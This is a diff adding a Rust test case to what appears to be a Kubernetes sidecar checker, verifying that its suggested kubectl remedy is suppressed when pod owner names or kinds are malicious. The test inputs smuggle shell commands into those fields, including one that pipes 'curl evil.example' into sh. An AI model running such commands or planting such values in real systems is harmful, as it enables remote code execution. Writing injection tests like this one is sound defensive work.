@@ -96,6 +96,20 @@ fn pods_have_the_sidecar_that_the_controller_gives() {
     let findings = judged(&[pod("a", "", ""), pod("b", "", ""), pod("c", "", new)]);
     expect(&findings, Check::Sidecars, &[(Level::Problem, "Deployment shop/web: 2 pods without the sidecar")]);
     assert_eq!(findings[0].cure.as_deref(), Some("make its pods anew: kubectl -n shop rollout restart deployment/web"));
+    for (from, to) in [
+        ("{kind: ReplicaSet, name: web-abc,", "{kind: StatefulSet, name: 'x;curl evil.example|sh',"),
+        ("{kind: ReplicaSet, name: web-abc,", "{kind: 'StatefulSet; curl evil.example', name: web,"),
+        ("{kind: ReplicaSet, name: web-abc,", "{kind: StatefulSet, name: '$(curl evil.example)',"),
+        ("name: web-abc,", "name: 'web;curl evil.example-abc',"),
+    ] {
+        let findings = judged(&[pod("a", "", "").replace(from, to)]);
+        expect(&findings, Check::Sidecars, &[(Level::Problem, "1 pod without the sidecar")]);
+        let cure = findings[0].cure.as_deref().unwrap();
+        assert!(
+            !cure.contains("kubectl") && !cure.contains("curl") && cure.contains("an owner that cannot be"),
+            "{cure}"
+        );
+    }
     expect(
         &judged(&[pod("a", "cloakroom.dev/inject: 'false'", "")]),
         Check::Sidecars,
